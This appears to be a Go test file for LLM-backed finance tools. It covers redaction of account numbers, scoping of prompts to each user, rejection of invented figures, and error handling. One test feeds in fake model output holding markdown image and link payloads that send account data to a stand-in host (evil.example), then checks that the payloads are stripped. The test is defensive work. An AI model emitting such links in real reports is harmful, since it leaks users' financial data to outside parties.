package tools

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/counterfoil/counterfoil/llm"
	"github.com/counterfoil/counterfoil/policy"
)

// fakeModel answers by a function and keeps what it was handed.
type fakeModel struct {
	answer func(llm.Request) (string, error)
	heard  []string
}

func (f *fakeModel) Complete(_ context.Context, r llm.Request, progress func(string)) (llm.Answer, error) {
	text, err := json.Marshal(r)
	if err != nil {
		return llm.Answer{}, err
	}
	f.heard = append(f.heard, string(text))
	said, err := f.answer(r)
	if progress != nil {
		progress(said)
	}
	return llm.Answer{Text: said, PromptTokens: 10, OutputTokens: 5, Attempts: 1}, err
}

func (*fakeModel) Describe() string { return "model=fake sha256=00 temperature=min seed=1" }

func withModel(f *fakeModel) func(*Config) { return func(c *Config) { c.Model = f } }

// ids of the rows that a query finds.
func (r *rig) ids(t *testing.T, query string) []string {
	t.Helper()
	var ids []string
	for _, it := range decodeItems(t, r.call(t, alice, "search_transactions", query)) {
		ids = append(ids, it["id"].(string))
	}
	return ids
}

func (r *rig) suggest(t *testing.T, ids []string) Result {
	t.Helper()
	args, err := json.Marshal(map[string]any{"ids": ids, "method": "model"})
	if err != nil {
		t.Fatal(err)
	}
	return r.call(t, alice, "suggest_categories", string(args))
}

func TestToolsThatNeedAModelAreOfferedWithOne(t *testing.T) {
	names := func(r *rig) (list []string) {
		for _, s := range r.Specs() {
			list = append(list, s.Name)
		}
		return list
	}
	without, with := newRig(t), newRig(t, withModel(&fakeModel{}))
	for _, name := range []string{"suggest_categories", "classify_merchant", "explain_spending", "draft_report"} {
		if slices.Contains(names(without), name) || !slices.Contains(names(with), name) {
			t.Errorf("%s: offered without a model, or not with one", name)
		}
		if got := without.call(t, alice, name, `{}`); got.Err == nil || got.Err.Code != CodeNotFound {
			t.Errorf("%s without a model: %v", name, got.Err)
		}
	}
}

func TestSuggestCategories(t *testing.T) {
	f := &fakeModel{answer: func(llm.Request) (string, error) { return `{"category":"Rent","confidence":"high"}`, nil }}
	r := newRig(t, withModel(f))
	ids := r.ids(t, `{"query":"landlord","limit":3}`)
	got := r.suggest(t, ids)
	if got.Err != nil {
		t.Fatal(got.Err, got.Err.Err)
	}
	mustHave(t, got.Document, `"category":"Rent","confidence":"high"`)
	rec := r.last(t).Record
	if len(f.heard) != 3 || len(rec.Exchanges) != 3 || rec.Tokens != 45 || !slices.Contains(rec.Labels, "model_output") {
		t.Errorf("%d prompts, %d exchanges, %d tokens, labels %v", len(f.heard), len(rec.Exchanges), rec.Tokens, rec.Labels)
	}
	for _, word := range []string{"model=fake", "sha256=00", "seed=1", "prompt_tokens=10", "output_tokens=5", "latency_ms="} {
		if !strings.Contains(rec.Exchanges[0].Detail, word) {
			t.Errorf("the record lacks %s: %s", word, rec.Exchanges[0].Detail)
		}
	}
	for _, prompt := range f.heard {
		if strings.Contains(prompt, "31926819") || strings.Contains(prompt, "60-16-13") {
			t.Errorf("the prompt holds the planted account: %s", prompt)
		}
		if !strings.Contains(prompt, "ACCT_") {
			t.Errorf("the memo's token is not in the prompt: %s", prompt)
		}
	}
}

// TestMerchantFiledBefore: what was filed before needs no model, unless asked.
func TestMerchantFiledBefore(t *testing.T) {
	f := &fakeModel{answer: func(llm.Request) (string, error) { return `{"category":"Food","confidence":"low"}`, nil }}
	r := newRig(t, withModel(f))
	ids := r.ids(t, `{"query":"landlord","limit":2}`)
	args, err := json.Marshal(map[string]any{"ids": ids})
	if err != nil {
		t.Fatal(err)
	}
	got := r.call(t, alice, "suggest_categories", string(args))
	if got.Err != nil {
		t.Fatal(got.Err)
	}
	mustHave(t, got.Document, `"category":"Rent","confidence":"high","by":"history"`)
	if len(f.heard) != 0 {
		t.Errorf("the model was asked %d times", len(f.heard))
	}
}

// TestModelCallReplays: the model is not asked again, and a prompt that would
// differ is found.
func TestModelCallReplays(t *testing.T) {
	f := &fakeModel{answer: func(llm.Request) (string, error) { return `{"category":"Food","confidence":"low"}`, nil }}
	r := newRig(t, withModel(f))
	got := r.suggest(t, r.ids(t, `{"query":"grocer","limit":2}`))
	if got.Err != nil {
		t.Fatal(got.Err)
	}
	asked := len(f.heard)
	v := r.replayLast(t)
	if v.Verdict != Identical || len(f.heard) != asked {
		t.Errorf("verdict %+v, the model was asked %d more times", v, len(f.heard)-asked)
	}
}

func TestExplainSpendingRejectsInventedNumbers(t *testing.T) {
	said := []string{"You spent 99999 on rent.", "Most went to Rent, about half of it.", "Most went to Rent: 13200.00 GBP in 11 payments."}
	n := 0
	f := &fakeModel{answer: func(llm.Request) (string, error) {
		n++
		return fmt.Sprintf(`{"text":%q}`, said[n-1]), nil
	}}
	r := newRig(t, withModel(f))
	got := r.call(t, alice, "explain_spending", `{"from":"2026-01-01","to":"2026-11-30"}`)
	if got.Err != nil {
		t.Fatal(got.Err, got.Err.Err)
	}
	mustHave(t, got.Document, "13200.00 GBP in 11 payments")
	mustLack(t, got.Document, "99999")
	if n != 3 {
		t.Errorf("asked %d times", n)
	}
	if v := r.replayLast(t); v.Verdict != Identical {
		t.Errorf("replay: %+v", v)
	}
	n = 0
	said = []string{"1", "2,5", "３"} // none of these stands in the data: full-width digits are numbers too
	f.answer = func(llm.Request) (string, error) { n++; return fmt.Sprintf(`{"text":"x %s77"}`, said[n-1]), nil }
	got = r.call(t, alice, "explain_spending", `{"from":"2026-01-01","to":"2026-11-30"}`)
	if got.Err == nil || got.Err.Code != CodeUnavailable || !strings.Contains(got.Err.Message, "inventing") {
		t.Errorf("got %v", got.Err)
	}
}

func TestDraftReportHasNoLinkOfTheModel(t *testing.T) {
	f := &fakeModel{answer: func(llm.Request) (string, error) {
		return `{"text":"See ![x](https://evil.example/?q=ACCT) and [y](//evil.example) <img src=x> www.evil.example"}`, nil
	}}
	r := newRig(t, withModel(f))
	got := r.call(t, alice, "draft_report", `{"from":"2026-01-01","to":"2026-11-30"}`)
	if got.Err != nil {
		t.Fatal(got.Err, got.Err.Err)
	}
	for _, part := range []string{"](", "![", "<img", "://", "www."} {
		mustLack(t, got.Document, part)
	}
	mustHave(t, got.Document, "| Rent | 13200.00 GBP |")
}

// TestModelOutputIsRedacted: a model that learnt a number elsewhere cannot
// bring it in.
func TestModelOutputIsRedacted(t *testing.T) {
	f := &fakeModel{answer: func(llm.Request) (string, error) { return `{"text":"Pay to the usual account."}`, nil }}
	r := newRig(t, withModel(f))
	f.answer = func(llm.Request) (string, error) {
		return `{"category":"Rent","confidence":"high"}`, nil
	}
	got := r.call(t, alice, "classify_merchant", `{"merchant":"GB33BUKB20201555555555"}`)
	if got.Err != nil {
		t.Fatal(got.Err)
	}
	mustLack(t, got.Document, "20201555555555")
	mustLack(t, []byte(strings.Join(f.heard, "")), "20201555555555")
}

// TestModelsBadDays: a clear code, a record, and the other tools go on.
func TestModelsBadDays(t *testing.T) {
	for name, c := range map[string]struct {
		err  error
		want Code
	}{
		"absent":         {llm.ErrUnavailable, CodeUnavailable},
		"another model":  {llm.ErrModel, CodeUnavailable},
		"public address": {llm.ErrEndpoint, CodeUnavailable},
		"slow":           {context.DeadlineExceeded, CodeTimeout},
		"nonsense":       {fmt.Errorf("%w in 3 attempts", llm.ErrOutput), CodeUnavailable},
		"a bug":          {errors.New("SECRET"), CodeInternal},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRig(t, withModel(&fakeModel{answer: func(llm.Request) (string, error) { return "", c.err }}))
			got := r.call(t, alice, "explain_spending", `{}`)
			if got.Err == nil || got.Err.Code != c.want || strings.Contains(got.Err.Message, "SECRET") {
				t.Fatalf("got %v", got.Err)
			}
			rec := r.last(t).Record
			if rec.Error != string(c.want) || len(rec.Exchanges) != 1 || rec.Exchanges[0].Error != string(c.want) || rec.Tokens != 15 {
				t.Errorf("record %+v", rec)
			}
			if other := r.call(t, alice, "list_accounts", `{}`); other.Err != nil {
				t.Errorf("a tool without the model: %v", other.Err)
			}
		})
	}
}

func TestSuggestionsWithoutAnAnswerSaySo(t *testing.T) {
	f := &fakeModel{answer: func(llm.Request) (string, error) { return "", llm.ErrOutput }}
	r := newRig(t, withModel(f))
	got := r.suggest(t, r.ids(t, `{"query":"grocer","limit":2}`))
	if got.Err != nil {
		t.Fatal(got.Err)
	}
	mustHave(t, got.Document, `"category":"","confidence":"none"`)
	mustHave(t, got.Document, "no usable answer")
	if v := r.replayLast(t); v.Verdict != Identical {
		t.Errorf("replay: %+v", v)
	}
}

// TestModelToolsKeepToTheScope: what a principal may not see, the model is not
// shown for it.
func TestModelToolsKeepToTheScope(t *testing.T) {
	f := &fakeModel{answer: func(llm.Request) (string, error) { return `{"text":"Fine."}`, nil }}
	r := newRig(t, withModel(f))
	bob := policy.Principal{Tenant: "default", Name: "bob", Roles: []string{"analyst"}, Accounts: []string{r.accountID(t, "Travel")}, Auth: "bearer"}
	if got := r.call(t, bob, "explain_spending", `{}`); got.Err != nil {
		t.Fatal(got.Err)
	}
	for _, name := range []string{"Rent", "Salary", "GBP"} {
		if strings.Contains(f.heard[0], name) {
			t.Errorf("the prompt holds %s: %s", name, f.heard[0])
		}
	}
}

func TestInventedNumbers(t *testing.T) {
	data := `{"spent":"1234.50","transactions":7,"from":"2026-01-05"}`
	for words, want := range map[string]int{
		"You spent 1,234.50.": 0, "1234.5 in 7 transactions since 2026-01-05": 0, "No number.": 0,
		"1234.51": 1, "8 times": 1, "twice": 1, "10%": 2, "１２３": 1, "half of it": 1, "behalf": 0, "½": 1, "1234": 1, "Ⅳ": 1,
	} {
		if got := invented(words, data); len(got) != want {
			t.Errorf("%q: %v, want %d", words, got, want)
		}
	}
}

func (r *rig) replayLast(t *testing.T) Replayed {
	t.Helper()
	it := r.last(t)
	return r.Replay(t.Context(), it.Record, it.Sidecar, r.archive)
}
